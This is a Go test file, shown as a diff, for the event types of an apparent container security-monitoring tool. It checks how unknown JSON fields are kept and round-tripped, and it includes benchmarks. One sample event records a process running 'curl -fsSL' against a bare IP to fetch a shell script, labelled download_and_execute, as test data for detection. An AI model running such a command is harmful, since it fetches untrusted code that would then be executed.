@@ -0,0 +1,184 @@
+package types
+
+import (
+	"bytes"
+	"encoding/json"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestSecurityEvent_PreservesUnknownFields(t *testing.T) {
+	in := `{"id":"ev-1","agent_id":"a","type":"network_connect","severity":"HIGH",` +
+		`"timestamp":"2026-01-02T03:04:05Z","pod_name":"p","pod_namespace":"ns",` +
+		`"trace_id":"abc","sampling":{"rate":0.5},` +
+		`"network":{"protocol":"tcp","dst_ip":"1.2.3.4","dst_port":443,"state":"ESTABLISHED",` +
+		`"is_external":true,"is_suspicious_port":false,"sni":"evil.example"}}`
+	var ev SecurityEvent
+	if err := json.Unmarshal([]byte(in), &ev); err != nil {
+		t.Fatalf("Unmarshal: %v", err)
+	}
+	if ev.ID != "ev-1" || ev.Network == nil || ev.Network.DstPort != 443 {
+		t.Fatalf("known fields not decoded: %+v", ev)
+	}
+	want := map[string]json.RawMessage{
+		"trace_id":    json.RawMessage(`"abc"`),
+		"sampling":    json.RawMessage(`{"rate":0.5}`),
+		"network.sni": json.RawMessage(`"evil.example"`),
+	}
+	if got := ev.UnknownFields(); !reflect.DeepEqual(got, want) {
+		t.Errorf("UnknownFields = %s, want %s", got, want)
+	}
+
+	out, err := json.Marshal(&ev)
+	if err != nil {
+		t.Fatalf("Marshal: %v", err)
+	}
+	var gotObj, wantObj map[string]interface{}
+	if err := json.Unmarshal(out, &gotObj); err != nil {
+		t.Fatalf("re-encoded event is not valid JSON: %v\n%s", err, out)
+	}
+	_ = json.Unmarshal([]byte(in), &wantObj)
+	if !reflect.DeepEqual(gotObj, wantObj) {
+		t.Errorf("round trip:\n got %s\nwant %s", out, in)
+	}
+}
+
+func TestSecurityEvent_NoUnknownFields(t *testing.T) {
+	ev := SecurityEvent{ID: "ev-1", Process: &ProcessEventData{PID: 1, Name: "sh"}}
+	data, err := json.Marshal(ev)
+	if err != nil {
+		t.Fatalf("Marshal: %v", err)
+	}
+	var got SecurityEvent
+	if err := json.Unmarshal(data, &got); err != nil {
+		t.Fatalf("Unmarshal: %v", err)
+	}
+	if got.UnknownFields() != nil {
+		t.Errorf("UnknownFields = %v, want nil", got.UnknownFields())
+	}
+}
+
+func TestMarshalExtensions(t *testing.T) {
+	// Known field names win over extensions, matched case-insensitively.
+	p := ProcessEventData{PID: 3, Extensions: Extensions{"PID": json.RawMessage(`9`), "z": json.RawMessage(`true`)}}
+	data, err := json.Marshal(p)
+	if err != nil {
+		t.Fatalf("Marshal: %v", err)
+	}
+	if strings.Contains(string(data), "9") || !strings.HasSuffix(string(data), `,"z":true}`) {
+		t.Errorf("Marshal = %s", data)
+	}
+
+	// An object with no known fields written still gets valid JSON.
+	data, err = marshalExtensions(struct{}{}, Extensions{"a": json.RawMessage(`1`), "b": json.RawMessage(`2`)})
+	if err != nil || string(data) != `{"a":1,"b":2}` {
+		t.Errorf("marshalExtensions = %s, %v", data, err)
+	}
+}
+
+func TestUnmarshalExtensions(t *testing.T) {
+	type plainEvent SecurityEvent
+	type plainProcess ProcessEventData
+	cases := []struct {
+		name    string
+		data    string
+		v       interface{}
+		want    Extensions
+		wantErr bool
+	}{
+		{"known fields", benchEvent, new(plainEvent), nil, false},
+		{"unknown fields", `{"id":"e","trace_id":"t","process":{"pid":1,"container_id":"c"}}`, new(plainEvent),
+			Extensions{"trace_id": json.RawMessage(`"t"`)}, false},
+		{"case-insensitive keys", `{"PID":7,"Name":"sh","CmdLine":["sh"]}`, new(plainProcess), nil, false},
+		{"ignored field name", `{"pid":1,"Extensions":{"a":1}}`, new(plainProcess),
+			Extensions{"Extensions": json.RawMessage(`{"a":1}`)}, false},
+		{"duplicate keys", `{"pid":1,"pid":2,"x":1,"x":2}`, new(plainProcess), Extensions{"x": json.RawMessage(`2`)}, false},
+		{"empty object", `{}`, new(plainProcess), nil, false},
+		{"null", `null`, new(plainProcess), nil, false},
+		{"whitespace", " {\n\t\"pid\" : 1 ,\r\n \"x\" : [ 1 , {\"y\" : null} ] , \"z\" : -1.5e3 } ", new(plainProcess),
+			Extensions{"x": json.RawMessage(`[ 1 , {"y" : null} ]`), "z": json.RawMessage(`-1.5e3`)}, false},
+		{"brackets and quotes in strings", `{"x":{"a":"}]\"{"},"name":"s}","y":"\\"}`, new(plainProcess),
+			Extensions{"x": json.RawMessage(`{"a":"}]\"{"}`), "y": json.RawMessage(`"\\"`)}, false},
+		{"scalar last", `{"pid":1,"x":true}`, new(plainProcess), Extensions{"x": json.RawMessage(`true`)}, false},
+		{"escaped keys", `{"p\u0069d":1,"\u0078":2}`, new(plainProcess), Extensions{"x": json.RawMessage(`2`)}, false},
+		{"unknown then type error", `{"x":1,"pid":"one","name":"sh"}`, new(plainProcess), nil, true},
+		{"not an object", `[1,2]`, new(plainProcess), nil, true},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			got, err := unmarshalExtensions([]byte(tc.data), tc.v)
+			if (err != nil) != tc.wantErr {
+				t.Fatalf("err = %v, wantErr %v", err, tc.wantErr)
+			}
+			if !reflect.DeepEqual(got, tc.want) {
+				t.Errorf("extensions %s, want %s", got, tc.want)
+			}
+		})
+	}
+
+	// Extensions do not share the buffer, which the server reuses.
+	buf := []byte(`{"pid":1,"x":"abc"}`)
+	ext, err := unmarshalExtensions(buf, new(plainProcess))
+	copy(buf, bytes.Repeat([]byte{' '}, len(buf)))
+	if err != nil || string(ext["x"]) != `"abc"` {
+		t.Errorf("extension after reusing the buffer = %s, %v", ext["x"], err)
+	}
+
+	// The error and the decoded value are json.Unmarshal's own.
+	var got, want plainProcess
+	data := []byte(`{"pid":"one","x":1,"name":"sh"}`)
+	_, gotErr := unmarshalExtensions(data, &got)
+	wantErr := json.Unmarshal(data, &want)
+	if gotErr == nil || gotErr.Error() != wantErr.Error() || !reflect.DeepEqual(got, want) {
+		t.Errorf("type error: got %+v, %v; want %+v, %v", got, gotErr, want, wantErr)
+	}
+}
+
+// benchEvent is a typical process event as sent by current agents.
+const benchEvent = `{"schema_version":"v2","id":"ev-0123456789","agent_id":"agent-node-a",` +
+	`"type":"process_start","severity":"HIGH","timestamp":"2026-01-02T03:04:05.123456789Z",` +
+	`"pod_name":"api-7d9f8b6c5d-x2k4p","pod_namespace":"payments",` +
+	`"process":{"pid":4242,"ppid":1,"name":"curl","exe_path":"/usr/bin/curl","uid":1000,` +
+	`"cmdline":["curl","-fsSL","http://203.0.113.7/x.sh"],"suspicious_indicators":["download_and_execute"],` +
+	`"exe_hash":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},` +
+	`"metadata":{"container_id":"containerd://abc","node":"gke-pool-1"},"occurred_at":"2026-01-02T03:04:04Z"}`
+
+func BenchmarkSecurityEvent_Unmarshal(b *testing.B) {
+	data := []byte(benchEvent)
+	b.SetBytes(int64(len(data)))
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		var ev SecurityEvent
+		if err := json.Unmarshal(data, &ev); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+// BenchmarkSecurityEvent_UnmarshalUnknownFields covers events from agents
+// newer than the controller, which also allocate their Extensions.
+func BenchmarkSecurityEvent_UnmarshalUnknownFields(b *testing.B) {
+	data := []byte(strings.Replace(benchEvent, `"exe_hash"`, `"container_id":"abc","exe_hash"`, 1))
+	b.SetBytes(int64(len(data)))
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		var ev SecurityEvent
+		if err := json.Unmarshal(data, &ev); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkSecurityEvent_Marshal(b *testing.B) {
+	var ev SecurityEvent
+	if err := json.Unmarshal([]byte(benchEvent), &ev); err != nil {
+		b.Fatal(err)
+	}
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		if _, err := json.Marshal(&ev); err != nil {
+			b.Fatal(err)
+		}
+	}
+}